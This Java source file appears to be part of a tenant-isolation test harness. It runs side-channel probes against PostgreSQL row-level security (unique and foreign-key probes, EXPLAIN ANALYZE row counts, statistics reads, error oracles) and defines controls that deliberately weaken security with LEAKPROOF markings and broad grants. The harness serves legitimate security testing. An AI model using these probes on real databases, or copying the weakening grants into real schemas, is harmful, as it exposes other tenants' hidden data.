package io.croft.attack;

import static io.croft.core.Isolation.POOL;

import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Savepoint;
import java.util.List;

/** Questions about rows that cannot be read: how many are there, and which values have they? */
final class OracleAttacks {

  private static final String ABSENT = "secret-that-nobody-has";

  private static final Control UNIQUE_GLOBAL =
      Control.database(
          "unique-global",
          "the tenant at the head of a unique key",
          "ALTER TABLE croft_canary ADD CONSTRAINT of_all UNIQUE (mark)");

  private static final Control KEY_GLOBAL =
      Control.database(
          "foreign-key-global",
          "the tenant in a foreign key",
          "ALTER TABLE croft_canary ADD CONSTRAINT of_all UNIQUE (id);"
              + "ALTER TABLE croft_canary DROP CONSTRAINT croft_canary_tenant_id_parent_fkey;"
              + "ALTER TABLE croft_canary ADD FOREIGN KEY (parent) REFERENCES croft_canary (id)");

  private static final Control INDEX_GLOBAL =
      Control.database(
          "index-global",
          "the tenant at the head of an index",
          "CREATE INDEX of_all ON croft_canary (mark)");

  private static final Control LEAKPROOF =
      Control.database(
          "operator-leakproof",
          "the rule that what can fail is evaluated after the policy",
          "ALTER FUNCTION pg_catalog.int84mi(int8, int4) LEAKPROOF COST 0.0001;"
              + "ALTER FUNCTION pg_catalog.int48div(int4, int8) LEAKPROOF COST 0.0001;"
              + "ALTER FUNCTION pg_catalog.int84gt(int8, int4) LEAKPROOF COST 0.0001");

  private OracleAttacks() {}

  static List<Attack> all() {
    return List.of(
        pool("unique-probe", "a unique key tells whether another has a value")
            .from("matrix 22")
            .without(UNIQUE_GLOBAL)
            .does(OracleAttacks::probe),
        pool("pending-key-probe", "an insert waits for another's uncommitted value")
            .from("matrix 23")
            .without(UNIQUE_GLOBAL)
            .does(OracleAttacks::probePending),
        pool("foreign-key-probe", "a foreign key tells whether another has a row")
            .from("matrix 24")
            .without(KEY_GLOBAL)
            .does(OracleAttacks::reference),
        pool("count-oracle", "EXPLAIN ANALYZE counts the rows that a policy has hidden")
            .from("matrix 33; CVE-2025-3648 (Count(er) Strike)")
            .without(INDEX_GLOBAL)
            .does(OracleAttacks::explain),
        pool("transaction-statistics", "the transaction's own statistics count hidden rows")
            .from("matrix 33")
            .without(
                Control.database(
                    "transaction-statistics-granted",
                    "the revoked functions pg_stat_get_xact_*",
                    "GRANT EXECUTE ON FUNCTION pg_stat_get_xact_tuples_fetched(oid),"
                        + " pg_stat_get_xact_tuples_returned(oid) TO PUBLIC"))
            .does(
                t ->
                    t.eachRefused(
                        List.of(
                            "SELECT pg_stat_get_xact_tuples_fetched('croft_canary'::regclass)",
                            "SELECT pg_stat_get_xact_tuples_returned('croft_canary_pkey'::regclass)",
                            "SELECT * FROM pg_stat_xact_user_tables"),
                        Trial.Gain.ACCEPTED,
                        "42501")),
        pool("statistics-tables", "the planner's samples are read")
            .from("matrix 31; CVE-2024-4317, CVE-2025-8713")
            .only(Safety.OWN_SERVER)
            .without(
                Control.database(
                    "statistics-granted",
                    "the closed table pg_statistic",
                    "GRANT SELECT ON pg_catalog.pg_statistic TO {ownlogin}"))
            .does(OracleAttacks::sample),
        pool("error-oracle", "an expression fails on a hidden row, and names it")
            .from("matrix 34, 35; CVE-2017-7484; cockroach #146952")
            .without(LEAKPROOF)
            .does(OracleAttacks::fail));
  }

  private static Attack.Builder pool(String id, String title) {
    return Attack.named(id, title).in(POOL);
  }

  /** Returns what inserting that mark says: how many rows, or the SQLSTATE. */
  private static String insert(Connection own, String end, String mark) throws SQLException {
    Savepoint before = own.setSavepoint();
    try {
      return Sql.change(own, "INSERT INTO croft_canary (mark) VALUES (?)" + end, mark) + " rows";
    } catch (SQLException e) {
      return String.valueOf(e.getSQLState());
    } finally {
      own.rollback(before);
    }
  }

  private static void tell(Trial trial, String what, String present, String absent) {
    if (present.equals(absent)) {
      trial.answers().nothing("same answer");
    } else {
      trial.answers().through("%s: %s where it is, %s where not".formatted(what, present, absent));
    }
  }

  private static void probe(Trial trial) throws SQLException {
    Connection own = trial.inside(trial.own());
    for (String end :
        List.of("", " ON CONFLICT DO NOTHING", " ON CONFLICT (tenant_id, mark) DO NOTHING")) {
      tell(
          trial, "INSERT" + end, insert(own, end, trial.victim().mark()), insert(own, end, ABSENT));
    }
    own.rollback();
  }

  private static void probePending(Trial trial) throws SQLException {
    String pending = trial.victim().mark() + "-pending";
    Connection victim = trial.inside(trial.victim());
    Sql.call(victim, "INSERT INTO croft_canary (mark) VALUES (?)", pending);
    Connection own = trial.inside(trial.own());
    Sql.run(own, "SET LOCAL lock_timeout = '150ms'");
    tell(trial, "an insert", insert(own, "", pending), insert(own, "", ABSENT));
    own.rollback();
    victim.rollback();
  }

  private static void reference(Trial trial) throws SQLException {
    Connection own = trial.inside(trial.own());
    tell(
        trial,
        "a reference",
        refer(own, trial.victim().id()),
        refer(own, trial.victim().id() + 1_000_000));
    own.rollback();
  }

  private static String refer(Connection own, long id) throws SQLException {
    Savepoint before = own.setSavepoint();
    try {
      Sql.call(own, "INSERT INTO croft_canary (mark, parent) VALUES ('child', ?)", id);
      return "accepted";
    } catch (SQLException e) {
      return String.valueOf(e.getSQLState());
    } finally {
      own.rollback(before);
    }
  }

  private static void explain(Trial trial) throws SQLException {
    Connection own = trial.inside(trial.own());
    for (String setting : List.of("enable_seqscan", "enable_indexscan", "enable_bitmapscan")) {
      Sql.run(own, "SET LOCAL " + setting + " = off");
      for (String column : List.of("mark", "mark COLLATE \"default\"")) {
        tell(
            trial,
            "EXPLAIN without " + setting,
            hidden(own, column, trial.victim().mark()),
            hidden(own, column, ABSENT));
      }
      Sql.run(own, "SET LOCAL " + setting + " = on");
    }
    own.rollback();
  }

  /** Returns the lines in which PostgreSQL tells how many rows it has met. */
  private static String hidden(Connection own, String column, String mark) throws SQLException {
    String explain =
        "EXPLAIN (ANALYZE, COSTS OFF, TIMING OFF, SUMMARY OFF) SELECT count(*) FROM croft_canary WHERE "
            + column
            + " = '"
            + mark
            + "'";
    return Sql.column(own, explain).stream()
        .map(String::strip)
        .filter(line -> line.startsWith("Rows Removed") || line.contains("actual rows"))
        .toList()
        .toString();
  }

  private static void sample(Trial trial) throws SQLException {
    Connection admin = trial.admin();
    Sql.run(admin, "ANALYZE app.croft_canary");
    Connection own = trial.inside(trial.own());
    for (String source :
        List.of(
            "SELECT count(*) FROM pg_stats WHERE tablename = 'croft_canary'",
            "SELECT count(*) FROM pg_stats_ext_exprs WHERE tablename = 'croft_canary'",
            "SELECT count(*) FROM pg_statistic WHERE starelid = 'croft_canary'::regclass")) {
      trial.begin(own, trial.own());
      trial.mustReachNothing(source, () -> Sql.number(own, source), "42501");
    }
    own.rollback();
  }

  private static void fail(Trial trial) throws SQLException {
    Connection own = trial.inside(trial.own());
    for (String filter :
        List.of("mark::bigint > 0", "1 / (id - {id}) > -10", "(ARRAY[mark])[1]::numeric > 0")) {
      trial.begin(own, trial.own());
      Sql.run(
          own,
          "SET LOCAL enable_indexscan = off; SET LOCAL enable_bitmapscan = off;"
              + "SET LOCAL enable_indexonlyscan = off");
      String read = trial.fill("SELECT count(*) FROM croft_canary WHERE " + filter);
      try {
        tell(trial, read, Sql.text(own, read), Integer.toString(trial.own().ids().size()));
      } catch (SQLException e) {
        trial.answers().through("%s: %s".formatted(filter, Answers.shortened(e)));
      }
    }
    own.rollback();
  }
}
